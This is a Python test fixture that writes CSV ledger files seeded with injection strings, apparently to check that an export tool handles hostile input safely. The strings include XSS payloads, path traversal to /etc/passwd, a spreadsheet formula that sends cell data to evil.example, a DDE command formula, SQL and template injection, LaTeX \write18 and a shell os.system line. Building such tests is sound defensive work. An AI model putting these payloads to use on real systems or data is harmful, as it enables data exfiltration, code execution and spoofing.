"""A ledger of strings that people with bad intentions, or bad luck, put into exports."""

from __future__ import annotations

import csv
from pathlib import Path

from planted import PLANTED

SCRIPT = "<script>alert(1)</script>"
TRAVERSAL = "../../etc/passwd"
FORMULA = '=HYPERLINK("http://evil.example/?a="&A1,"x")'
LONG = "长" * 300
EMOJI = "🔥👩‍🚒𠮷"
TURNED = "\u202egnp.txt\u202c\u2066\u200f分公司"
"""Shows as another name where its marks are obeyed."""
TEMPLATE = "{{ 7*191 }}{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}"
SQL = "'; DROP TABLE cases; --"
LATEX = r"\input{/etc/passwd}$\frac{1}{0}$_a^b \write18{id}"
MARKDOWN = "[x](javascript:alert(2)) ![i](http://evil.example/i.png) **b** `c`"
ATTRIBUTE = '" onmouseover="alert(3)" x=\''
ENTITY = "&lt;img src=x onerror=alert(4)&gt;</td></table><img src=x onerror=alert(5)>"
PYTHON = '"""\nimport os; os.system("touch /tmp/auditlib-owned")\n"""'
CONTROL = "甲\x1b]0;owned\x07\x1b[31m红"
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"

UNITS = {
    SCRIPT: f"{FORMULA}{ENTITY}{SQL}",
    TRAVERSAL: f"{TURNED}{ATTRIBUTE}",
    LONG: f"{LONG}{TEMPLATE}",
    COMMAND: f"{MARKDOWN}{LATEX}{CONTROL}{EMOJI}",
}
"""Unit codes and the units' names."""
CATEGORIES = (SQL, TEMPLATE, LATEX, MARKDOWN)
CASE_IDS = (
    "{unit}-{n}",
    "<img src=x onerror=alert(6)>{n}",
    "=1+{n}",
    "\u202e{n}",
    "../{n}",
    "{n}${{x}}$",
    "javascript:{n}",
)
CASES = 7
HEAD = [
    "case_id", "unit", "kind", "category", "outcome", "person_key", "problem_key", "received_at", "entered_at",
    "accepted_at", "contacted_at", "planned_at", "replied_at", "closed_at", "resolved", "satisfaction", "reviewed_at",
    "redone", "missing_items", "备注",
]  # fmt: skip


def write_hostile_ledger(folder: Path) -> Path:
    """December 2025: for each unit a few cases, the first contacted late, one with a time that is none.

    The strings of :data:`PLANTED` stand in rows of their own.
    """
    folder.mkdir(parents=True)
    cases = []
    for row, unit in enumerate(UNITS):
        for number in range(CASES):
            at = f"2025-12-{number + 3:02}T"
            key = CASE_IDS[number].format(unit=unit[:40], n=f"{row}{number}")
            contacted = f"{at}13:00:00" if number in (0, 1, 2) else f"{at}09:00:00"
            late = SCRIPT + FORMULA if number == 6 else f"{at}18:00:00"
            text = CATEGORIES[number % len(CATEGORIES)]
            cases.append([
                key, unit, "投诉", text, ENTITY, f"U{row}{number}{SQL}", f"Q{number}{PYTHON}", f"{at}08:00:00",
                f"{at}08:00:00", f"{at}08:00:00", contacted, contacted, late, f"{at}18:00:00", "是", "满意",
                "", "", "0", SCRIPT,
            ])  # fmt: skip
    events = [_event(f"E{SCRIPT}", f"{SCRIPT}{FORMULA}")]
    submissions = [_submission(SCRIPT)]
    marks: list[list[str]] = []
    units = [[unit, name, MARKDOWN] for unit, name in UNITS.items()]
    for number, (_, text, place) in enumerate(PLANTED):
        case = dict(zip(HEAD, cases[number % CASES], strict=True)) | {
            "case_id": f"P{number:02}",
            "person_key": f"U9{number:02}",
        }
        case |= {"replied_at": case["received_at"]}
        if place in case:
            case[place] = text
            cases.append([case[column] for column in HEAD])
        elif place == "reason":
            events.append(_event(f"E{number}", text))
        elif place == "title":
            submissions.append(_submission(text))
        elif place == "by":
            marks.append([SCRIPT, "2025-12", "special_tasks", "5", text, ""])
        elif place == "name":
            units.append([f"N{number}", text, "市区"])
        else:
            raise ValueError(place)
    _write(folder / "cases.csv", HEAD, cases)
    _write(folder / "units.csv", ["unit", "name", "group"], units)
    _write(folder / "events.csv", ["event_id", "unit", "at", "kind", "count", "reason"], events)
    _write(
        folder / "submissions.csv",
        ["unit", "kind", "due_at", "submitted_at", "title", "valid", "missing_items"],
        submissions,
    )
    _write(folder / "marks.csv", ["unit", "period", "indicator", "points", "by", "reason"], marks)
    _write(folder / "exclusions.csv", ["case_id", "reason", "approver", "clause"], [["../01", ENTITY, SCRIPT, LATEX]])
    (folder / "ledger.yaml").write_text('as_of: "2026-01-05T00:00:00"\n', encoding="utf-8")
    return folder


def _event(key: str, reason: str) -> list[str]:
    return [key, SCRIPT, "2025-12-05T09:00:00", "渠道故障", "1", reason]


def _submission(title: str) -> list[str]:
    return [TRAVERSAL, "制度", "", "2025-10-01", title, "", "0"]


def _write(file: Path, head: list[str], rows: list[list[str]]) -> None:
    with file.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([head, *rows])
